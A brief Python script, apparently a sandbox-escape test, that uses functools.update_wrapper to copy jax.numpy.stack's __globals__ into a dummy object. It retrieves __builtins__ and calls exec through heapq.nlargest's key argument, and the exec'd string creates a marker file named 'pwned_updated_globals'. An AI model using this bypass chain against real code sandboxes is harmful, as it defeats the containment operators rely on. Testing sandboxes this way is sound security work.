"""file: functools.update_wrapper copies the names of a function's module, with Python's own, into a dict."""

import functools
import heapq

import jax.numpy as jnp


class Taker:
    def __init__(self):
        self.__dict__["__globals__"] = {}


taker = Taker()
functools.update_wrapper(taker, jnp.stack, assigned=(), updated=["__globals__"])
found = taker.__dict__["__globals__"]["__builtins__"]
x = heapq.nlargest(1, ["open('pwned_updated_globals', 'w').close()"], key=found["exec"])
